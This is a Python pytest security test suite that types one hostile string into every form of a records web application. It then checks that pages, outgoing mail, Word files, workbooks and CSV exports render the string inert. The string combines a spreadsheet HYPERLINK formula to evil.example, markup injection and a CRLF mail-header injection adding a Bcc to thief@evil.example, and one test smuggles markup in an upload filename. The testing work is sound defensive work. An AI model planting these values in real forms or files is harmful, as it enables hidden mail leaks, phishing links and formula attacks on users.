"""Markup, header lines and formulas typed into every field of every form, and where they end up.

Each field of each form that our pages hold is sent with the same hostile line, as somebody who may
send it. Then every page, mail, Word file, workbook and table is looked at: it is text everywhere.
"""

from __future__ import annotations

import email
import email.policy
import io
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass

import lxml.etree
import lxml.html
import pytest
from openpyxl import load_workbook
from sqlalchemy import String, Text, cast, func, select

from huibao.demo.sink import Mailbox
from huibao.mail.outbox import Outbox
from huibao.records.models import Document, Record
from tests.security.asgi import Request
from tests.security.odd_requests import CANARY, Route, pages_of, routes_of
from tests.security.world import World

TYPED = f'=HYPERLINK("http://evil.example/x","y"){CANARY}7>\r\nBcc: thief@evil.example\r\n\r\n云'
pytestmark = pytest.mark.timeout(1200)  # the first test waits for all the typing
NOT_TYPED = ("csrf", "tab", "seen", "draft", "went_on_from", "touched")
"""What forms carry for us; whoever changes these is refused."""
WRITTEN = ("text", "reason", "why", "note", "opinion", "answer", "remark")
"""Fields that some forms want filled in, whatever else is typed."""
OF_EACH = 3
LATE = (
    *("cancel", "replace", "reopen", "close", "send", "recall", "skip", "void", "hand-over"),
    *("split", "merge", "claim-back", "waive", "reassign", "login", "confirm"),
)
"""Forms that end something, sent after all others."""


@dataclass(frozen=True)
class Attacked:
    """The installation after everything was typed into it, and its pages."""

    world: World
    pages: dict[str, str]


@pytest.fixture(scope="module")
def attacked(world: World) -> Iterator[Attacked]:
    """Everything typed everywhere."""
    world.put_back()
    routes = routes_of(world)
    for route, action, fields in sorted(_forms(routes), key=_is_late):
        usual = {name: value.strip() or _usual(name) for name, value in fields.items()}
        written = {name: TYPED for name in fields if name.startswith(WRITTEN)}
        _send(world, route, action, usual | written)
        for name in fields:
            if name not in NOT_TYPED:
                _send(world, route, action, usual | {name: TYPED})
    assert world.wire.faults.seen == []
    yield Attacked(world, pages_of(world, routes))
    world.put_back()


def _forms(routes: list[Route]) -> Iterator[tuple[Route, str, dict[str, str]]]:
    """Yield some forms of each kind: of the same fields under the same button."""
    seen: Counter[tuple[str, ...]] = Counter()
    for route in routes:
        for action, written in route.forms if route.path != "/logout" else ():
            fields = dict(written)
            kind = (route.path, action.rpartition("/")[2][:12], fields.get("decision", ""), *fields)
            seen[kind] += 1
            if seen[kind] <= OF_EACH:
                yield route, action, fields


def _usual(name: str) -> str:
    return "按实际情况填写" if name.startswith(WRITTEN) else ""


def _is_late(form: tuple[Route, str, dict[str, str]]) -> bool:
    return any(verb in form[1] for verb in LATE)


def _send(world: World, route: Route, action: str, fields: dict[str, str]) -> None:
    cookies, csrf = ("", "") if "{token}" in route.path else world.ways.sessions["office"]
    by_hand = {"touched": "1"} if "touched" in fields else {}
    sent = fields | by_hand | ({"csrf": csrf} if csrf else {})
    world.post(action.partition("?")[0], cookies, **sent)


def test_it_got_into_many_places(attacked: Attacked) -> None:
    kept = []
    with attacked.world.house.installation.database.reading() as session:
        for table in Record.metadata.sorted_tables:
            for column in table.columns:
                if isinstance(column.type, (String, Text)) or "JSON" in str(column.type):
                    held = cast(column, Text).contains("data-canary")
                    if session.scalar(select(func.count()).select_from(table).where(held)):
                        kept.append(f"{table.name}.{column.name}")
    assert len(kept) >= 20, " ".join(kept)
    assert {"decisions.opinion", "remarks.text", "messages.html", "sections.text"} <= set(kept), (
        " ".join(kept)
    )


def test_no_page_holds_it_as_markup(attacked: Attacked) -> None:
    assert sum("data-canary" in page for page in attacked.pages.values()) >= 20
    for path, page in attacked.pages.items():
        tree = lxml.html.fromstring(page)
        assert tree.xpath("//*[@data-canary]") == [], path
        assert tree.xpath("//@href[contains(., 'evil.example')]") == [], path


def test_no_page_holds_inline_script_or_style(attacked: Attacked) -> None:
    for path, page in attacked.pages.items():
        tree = lxml.html.fromstring(page)
        assert tree.xpath("//script[not(@src)] | //style | //@style") == [], path
        assert tree.xpath("//@*[starts-with(name(), 'on')]") == [], path
        # A link may name the channel's or Prefect's own address; what is loaded is our own.
        loaded = tree.xpath("//script/@src | //img/@src | //link/@href | //form/@action")
        assert [at for at in loaded if not at.startswith(("/", "data:image/", "#", "?"))] == [], (
            path
        )


def test_no_mail_has_a_header_of_it_or_markup(attacked: Attacked) -> None:
    house, hostile = attacked.world.house.installation, 0
    with Mailbox() as mailbox:
        smtp = house.office.smtp.model_copy(update={"port": mailbox.port, "host": "127.0.0.1"})
        office = house.office.model_copy(update={"smtp": smtp})
        outbox = Outbox(house.database, office, house.secret)
        outbox.sweep()
        outbox.close()
        for delivery in mailbox.deliveries():
            mail = email.message_from_bytes(delivery.raw, policy=email.policy.default)
            assert mail["Bcc"] is None
            assert [to for to in delivery.recipients if "evil" in to] == []
            html = mail.get_body(("html",))
            assert html is not None
            tree = lxml.html.fromstring(html.get_content())
            assert tree.xpath("//*[@data-canary]") == []
            assert tree.xpath("//@href[contains(., 'evil.example')]") == []
            hostile += "data-canary" in html.get_content()
    assert hostile >= 5


def test_no_word_file_computes_or_loads_anything_of_it(attacked: Attacked) -> None:
    world = attacked.world
    with world.house.installation.database.reading() as session:
        files = [row.content for row in session.scalars(select(Document))]
    office = world.ways.sessions["office"][0]
    files.append(world.get("/office/ledger/tasks.docx", office).body)
    hostile = 0
    for content in files:
        if not content.startswith(b"PK"):
            continue
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            for name in package.namelist():
                if name.endswith((".xml", ".rels")):
                    part = lxml.etree.fromstring(package.read(name))
                    assert part.xpath("//*[local-name()='i'][@data-canary]") == []
                    assert part.xpath("//@Target[contains(., 'evil.example')]") == []
                    fields = part.xpath("//*[local-name()='instrText']/text()")
                    assert [code for code in fields if "HYPERLINK" in code] == []
                    hostile += "data-canary" in "".join(part.itertext())
    assert hostile >= 1


@pytest.mark.parametrize("path", ["/office/ledger/tasks.xlsx", "/office/catalogue/2026.xlsx"])
def test_no_workbook_computes_anything_of_it(attacked: Attacked, path: str) -> None:
    world = attacked.world
    content = world.get(path, world.ways.sessions["office"][0]).body
    cells = [c for row in load_workbook(io.BytesIO(content)).worksheets[0].rows for c in row]
    assert cells
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    if "tasks" in path:
        assert any(str(cell.value).startswith("=HYPERLINK") for cell in cells)


def test_no_table_of_the_history_begins_a_cell_with_a_formula(attacked: Attacked) -> None:
    world = attacked.world
    for key in world.ways.names["key"]:
        at = f"/audit/cycles/{key}/history.csv"
        table = world.get(at, world.ways.sessions["auditor"][0]).text
        assert table.startswith("\ufeff")
        assert [line for line in table.splitlines() if line.startswith(("=", '"='))] == []
        assert ",=" not in table
        assert ',"=' not in table


def test_a_file_named_in_markup_is_shown_as_text(world: World) -> None:
    world.put_back()
    path = f"/write/{world.ways.tokens['write'][0]}/upload"
    body = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="%b"\r\n\r\nnot a file'
        b"\r\n--x--\r\n" % (CANARY.replace('"', "%22") + "1>.docx").encode()
    )
    kind = ("content-type", "multipart/form-data; boundary=x")
    answer = world.wire.send(Request("POST", path, headers=(kind,), body=body))
    assert answer.status == 400
    assert lxml.html.fromstring(answer.text).xpath("//*[@data-canary]") == []
